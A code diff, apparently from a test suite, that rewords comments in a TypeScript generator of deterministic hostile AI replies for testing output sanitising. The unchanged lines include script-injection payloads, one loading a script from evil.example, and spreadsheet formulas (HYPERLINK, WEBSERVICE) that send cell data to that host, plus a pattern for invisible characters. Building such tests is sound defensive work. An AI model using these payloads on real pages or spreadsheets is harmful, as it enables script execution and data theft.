@@ -1,20 +1,20 @@
-// Generates hostile model replies; the same ones in every run.
+// Generates hostile model replies. They are the same in every run.
 
 export type HostileReply = {
   text: string;
   /** A word that occurs only in this reply. */
   mark: string;
-  /** It contains invisible characters. */
+  /** Whether the reply contains invisible characters. */
   hides: boolean;
-  /** A pattern of the function that sends data out; replies show functions in the user's language. */
+  /** A pattern of the function that sends data out, in all languages in which a reply may show it. */
   reach: string | null;
 };
 
-/** Zero-width characters, direction controls and tags, none of which belongs to an emoji. */
+/** Zero-width characters, direction controls and tag characters, outside of emoji. */
 export const unseen =
   /[\u00ad\u061c\u115f\u1160\u180e\u200b-\u200f\u2028-\u202e\u2060-\u2069\u3164\ufeff\uffa0\u{e0000}-\u{e007f}]/u;
 
-/** `here` is replaced with the reply's mark. */
+/** `here` is replaced with the word in `mark`. */
 const attacks = [
   "<script>window.ran=1;alert('here')</script>",
   "<script src=https://evil.example/here.js></script>",
@@ -98,7 +98,7 @@ const contexts: readonly ((attack: string) => string)[] = [
   (attack) => `\`\`\`\n${attack}\n\`\`\``,
 ];
 
-/** Formulas, each with the function that sends data out. */
+/** Formulas, each with the function that sends data out, if there is one. */
 const formulas: readonly [string, string | null][] = [
   ['=HYPERLINK("https://evil.example/here?"&A1,"Open")', "HYPERLINK"],
   ['=WEBSERVICE("https://evil.example/here?"&A1)', "WEBSERVICE"],
@@ -134,7 +134,7 @@ const fences: readonly ((formula: string) => string)[] = [
   (formula) => formula,
 ];
 
-/** Pseudo-random numbers from 0 to 1; the same seed gives the same numbers. */
+/** Pseudo-random numbers from 0 to 1. The same seed gives the same numbers. */
 function randoms(seed: number): () => number {
   let state = seed;
   return () => {
@@ -145,7 +145,7 @@ function randoms(seed: number): () => number {
   };
 }
 
-/** Uses every attack and every formula in turn, combined with randomly chosen ones. */
+/** Uses every attack and every formula in turn, combined with others that are chosen at random. */
 export function hostileReplies(count: number): HostileReply[] {
   const random = randoms(20_261_122);
   const any = <One>(all: readonly One[]): One => all[Math.floor(random() * all.length)] as One;
@@ -155,7 +155,7 @@ export function hostileReplies(count: number): HostileReply[] {
     const parts = [attack, any(attacks), any(attacks)].map((each) => any(contexts)(each));
     const [formula, reach] =
       place % 2 === 0 ? (formulas[(place / 2) % formulas.length] ?? ["", null]) : ["", null];
-    // before the other parts, because inside an unclosed fence it would not be a formula
+    // the formula comes first, because after a fence that is not closed it would not be a formula
     if (formula) parts.unshift(any(fences)(formula));
     const text = [`Answer ${mark} follows.`, ...parts].join("\n\n").replaceAll("here", mark);
     return { text, mark, hides: unseen.test(text), reach };
